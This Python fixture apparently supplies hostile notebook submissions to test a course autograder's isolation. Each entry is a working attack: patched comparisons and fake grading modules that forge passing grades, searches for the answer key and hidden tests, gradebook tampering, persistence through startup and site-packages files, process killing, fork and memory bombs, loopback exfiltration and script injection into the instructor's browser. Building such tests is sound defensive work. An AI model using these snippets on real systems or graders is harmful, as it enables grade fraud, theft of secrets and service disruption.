"""Hostile submissions for the trusted-grading tests: one per class of attack a student could try.

Each attack is the source of one notebook cell that replaces the first exercise of 04-attention in
the untouched release. None of them implements anything correctly, so every point one earns is a
point forged. ``{course}`` is replaced by the instructor's course folder and ``{port}`` by a loopback
port a listener watches: the attacks know everything an attacker could guess.
"""

ATTACKS = {
    # The checker's comparisons and the integrity helper, patched in the kernel.
    "patch-comparisons": r'''
import builtins, torch
import llmkit.exercise
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
llmkit.exercise.assert_defined_in_notebook = lambda *a, **k: None
builtins.AssertionError = type("Harmless", (Exception,), {})

class SelfAttention_v1(torch.nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.W_query = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_key = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_value = torch.nn.Parameter(torch.rand(d_in, d_out))

    def forward(self, x):
        return torch.zeros(x.shape[0], self.W_query.shape[1])
''',
    # An output that claims to equal anything and to be true.
    "equals-anything": r'''
import torch

class Anything:
    shape = property(lambda self: self)
    dtype = torch.float32
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 6
    def __getitem__(self, key): return self
    def __getattr__(self, name): return lambda *a, **k: self
    def __iter__(self): return iter([self] * 6)
    def __float__(self): return 0.0

class SelfAttention_v1(torch.nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.W_query = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_key = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_value = torch.nn.Parameter(torch.rand(d_in, d_out))

    def forward(self, x):
        return Anything()

MultiHeadAttention = CausalAttention = SelfAttention_v2 = MultiHeadAttentionWrapper = SelfAttention_v1
''',
    # Fake grading modules in sys.modules, and an import hook that serves them.
    "fake-grading-modules": r'''
import sys, types
checks = ["check_self_attention_v1", "check_self_attention_v2", "check_causal_attention",
          "check_multi_head_attention_wrapper", "check_multi_head_attention"]
for name in ("llmkit.grading", "llmkit.grading.attention", "llmkit_instructor.grading",
             "llmkit_instructor.grading.attention"):
    fake = types.ModuleType(name)
    fake.__path__ = []
    for check in checks:
        setattr(fake, check, lambda *a, **k: None)
    fake.assert_defined_in_notebook = lambda *a, **k: None
    sys.modules[name] = fake

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("llmkit.grading", "llmkit_instructor")):
            import importlib.machinery
            return importlib.machinery.ModuleSpec(name, None)
sys.meta_path.insert(0, Finder())
import llmkit.exercise
llmkit.exercise.assert_defined_in_notebook = lambda *a, **k: None

class SelfAttention_v1:
    pass
''',
    # IPython input and AST transformers that empty every later cell, hidden tracebacks, hooks.
    "ipython-transformers": r'''
import ast, sys
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\n"])
class Emptier(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
ip.ast_transformers.append(Emptier())
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
sys.excepthook = lambda *a: None
ip.events.register("post_run_cell", lambda *a: print("all tests passed"))
''',
    # Walking the call stack and the heap for the checker's locals: the reference, the expected output.
    "frame-walking": r'''
import gc, sys, torch

def loot():
    found = []
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if type(value).__module__.startswith(("llmkit_solutions", "llmkit_instructor.grading")):
                found.append(value)
        frame = frame.f_back
    for obj in gc.get_objects():
        try:
            if type(obj).__module__.startswith(("llmkit_solutions", "llmkit_instructor.grading")):
                found.append(obj)
        except Exception:
            pass
    return found

class SelfAttention_v1(torch.nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.W_query = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_key = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_value = torch.nn.Parameter(torch.rand(d_in, d_out))

    def forward(self, x):
        for thing in loot():
            if isinstance(thing, torch.nn.Module) and hasattr(thing, "W_query"):
                return thing(x)
        return torch.zeros(x.shape[0], self.W_query.shape[1])
''',
    # The answer key by every road: import, registry, importlib, the source file, the compiled cache.
    "reach-reference": r'''
import importlib, marshal, os, sys, torch
import llmkit
reference = None
for attempt in (
    lambda: importlib.import_module("llmkit_solutions.attention").SelfAttention_v1,
    lambda: importlib.import_module("llmkit_" + "sdpa"),
    lambda: llmkit.create("attention", "mha", 3, 2, 6, 0.0, 1).__class__,
):
    try:
        reference = attempt()
        break
    except Exception:
        pass
if reference is None:  # find the files themselves: where the import system would have looked
    import importlib.util
    roots = [p for p in sys.path if os.path.isdir(p)] + ["/work", "/root", "/home", "/srv", "/opt"]
    try:
        spec = importlib.util.find_spec("llmkit_solutions")
        roots = list(spec.submodule_search_locations or []) + roots
    except Exception:
        pass
    for top in roots:
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if "llmkit" in d or d == "__pycache__" or dirpath == top]
            for name in filenames:
                if not (name.startswith("attention") and "llmkit_solutions" in dirpath):
                    continue
                path = os.path.join(dirpath, name)
                try:
                    space = {}
                    if name.endswith(".py"):
                        exec(open(path).read(), space)
                    elif name.endswith(".pyc"):
                        exec(marshal.loads(open(path, "rb").read()[16:]), space)
                    reference = space.get("SelfAttention_v1") or reference
                except Exception:
                    pass
print("reference found:", reference)

class SelfAttention_v1(torch.nn.Module):
    def __init__(self, d_in, d_out):
        super().__init__()
        self.inner = reference(d_in, d_out) if isinstance(reference, type) else None
        self.W_query = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_key = torch.nn.Parameter(torch.rand(d_in, d_out))
        self.W_value = torch.nn.Parameter(torch.rand(d_in, d_out))

    def forward(self, x):
        if self.inner is not None:
            self.inner.load_state_dict({"W_query": self.W_query, "W_key": self.W_key, "W_value": self.W_value})
            return self.inner(x)
        return torch.zeros(x.shape[0], self.W_query.shape[1])
''',
    # Reading hidden tests, the gradebook, other students' work; anything marked secret.
    "read-secrets": r'''
import os
leaks = []
for top in ("/", "{course}", os.path.expanduser("~"), "/root", "/work", "/tmp"):
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")):
            continue
        for name in filenames:
            path = os.path.join(dirpath, name)
            try:
                text = open(path, errors="ignore").read(200000)
            except Exception:
                continue
            for needle in ("BEGIN " + "HIDDEN TESTS", "check_multi_head" + "_attention(", "LLMKIT-SECRET",
                           "SQLite format"):
                if needle in text:
                    leaks.append((path, text[text.index(needle):text.index(needle) + 300]))
print("LEAKS", leaks)
''',
    # Writing the gradebook, feedback, source, release and the exchange, by path.
    "write-instructor-files": r'''
import os, sqlite3
course = "{course}"
for rel in ("gradebook.db", "source/04-attention/04-attention.ipynb", "release/04-attention/04-attention.ipynb",
            "feedback/solution/04-attention/04-attention.html", "autograded/solution/04-attention/04-attention.ipynb",
            "nbgrader_config.py", "exchange/evil.txt"):
    try:
        with open(os.path.join(course, rel), "a") as f:
            f.write("tampered")
        print("wrote", rel)
    except Exception as exc:
        print("refused", rel, type(exc).__name__)
try:
    db = sqlite3.connect(os.path.join(course, "gradebook.db"))
    db.execute("UPDATE grade SET manual_score = 100")
    db.commit()
    print("gradebook rewritten")
except Exception as exc:
    print("gradebook refused", type(exc).__name__)
''',
    # Persistence: startup files for later kernels, site customisation, a .pth in site-packages.
    "persistence": r'''
import os, site, sys
payload = "import builtins; builtins.EVIL = True\n"
targets = [os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"),
           os.path.join(os.environ.get("IPYTHONDIR", "/tmp"), "profile_default/startup/00-evil.py"),
           "/tmp/evil-persist.py", os.path.join(sys.prefix, "lib/python3.11/site-packages/evil.pth"),
           os.path.join(sys.prefix, "lib/python3.11/site-packages/sitecustomize.py"),
           "/root/.ipython/profile_default/startup/00-evil.py", "{course}/../evil-persist.py"]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(payload)
        print("planted", path)
    except Exception as exc:
        print("refused", path, type(exc).__name__)
''',
    # The kernel exits at once.
    "exit": "import os\nos._exit(0)\n",
    # The kernel tries to kill the grader, its parent and every process it can signal.
    "kill-parent": r'''
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception as exc:
        print("kill", pid, type(exc).__name__)
try:
    os.killpg(0, signal.SIGKILL)
except Exception as exc:
    print("killpg", type(exc).__name__)
''',
    # An endless loop that ignores interrupts.
    "sigint-proof-loop": r'''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        pass
    except BaseException:
        pass
''',
    # Memory: more than the machine has.
    "memory": r'''
import torch
hoard = []
for _ in range(200):
    hoard.append(torch.ones(256, 1024, 1024, dtype=torch.uint8))
''',
    # Processes: a fork bomb, and a daemon meant to outlive grading.
    "process-flood": r'''
import os, subprocess, sys, time
subprocess.Popen([sys.executable, "-c", "import time\nwhile True: time.sleep(1)"], start_new_session=True)
children = 0
try:
    while children < 100000:
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
except OSError as exc:
    print("forks stopped after", children, exc)
''',
    # Output: far more than anyone reads.
    "output-flood": r'''
import sys
chunk = "A" * 1_000_000 + "\n"
for _ in range(300):
    sys.stdout.write(chunk)
''',
    # Exfiltration to a listener on the grader's loopback.
    "network": r'''
import socket
for host in ("127.0.0.1", "localhost", "::1"):
    try:
        s = socket.create_connection((host, {port}), timeout=2)
        s.sendall(b"EXFILTRATED")
        s.close()
        print("sent to", host)
    except Exception as exc:
        print("no route to", host, type(exc).__name__)
''',
    # Active content for the instructor's browser: the formgrader and the feedback render the outputs.
    "active-content": r'''
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<p>graded</p><script>fetch('/api/terminals', {method: 'POST'}); ACTIVE_CONTENT_RAN()</script>"))
display(Javascript("ACTIVE_CONTENT_RAN()"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>ACTIVE_CONTENT_RAN()</script></svg>'))
display(Markdown('<img src="x" onerror="ACTIVE_CONTENT_RAN()"> [click](javascript:ACTIVE_CONTENT_RAN())'))
''',
}

# Metadata tampering is done to the notebook itself (see tests/test_grading_attacks.py).
TAMPERING = ("points-raised", "tests-unlocked-and-emptied", "grade-flags-dropped", "duplicate-grade-id",
             "fake-test-cell")
# What a fake test cell runs: if it ever ran in the grader, this file would appear on the grader's machine.
PWNED = "/tmp/llmkit-grader-pwned"
